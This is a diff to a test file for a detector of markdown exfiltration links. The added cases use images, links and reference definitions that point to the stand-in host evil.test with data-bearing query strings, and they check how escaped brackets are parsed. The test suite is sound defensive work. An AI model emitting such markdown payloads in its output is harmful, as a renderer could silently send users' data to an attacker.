@@ -214,6 +214,13 @@ test('exfil links: destinations with balanced or escaped parentheses, titles too
   // A backslash escape is removed before a renderer reads the host: trusted.example\@evil.test is evil.test.
   assert.deepEqual(spans('![x](https://trusted.example\\@evil.test/p.png)'), [['![x](https://trusted.example\\@evil.test/p.png)', 'markdown image']]);
   assert.deepEqual(spans('[x](https://trusted.example/a\\_b)'), []);
+  // Escaped brackets are text: the image below has the description "a](b)" (it used to read as a link
+  // to "b", and the image was not found); an escaped opener opens nothing; an escaped backslash escapes nothing.
+  assert.deepEqual(spans('![a\\](b)](https://evil.test/p.png?q=S)'), [['![a\\](b)](https://evil.test/p.png?q=S)', 'markdown image']]);
+  // (An escaped '!' before a link is read as an image's: more goes, nothing stays behind.)
+  assert.deepEqual(spans('see \\[x](https://evil.test/) and \\![y](https://evil.test/)'), [['![y](https://evil.test/)', 'markdown image']]);
+  assert.deepEqual(spans('[a\\\\](https://evil.test/?q=S)'), [['[a\\\\](https://evil.test/?q=S)', 'markdown link']]);
+  assert.deepEqual(spans('[r\\]x]\n\n[R\\]X]: https://evil.test/r'), [['[r\\]x]', 'markdown reference link'], ['[R\\]X]: https://evil.test/r', 'markdown reference definition']]);
 });
 
 /**
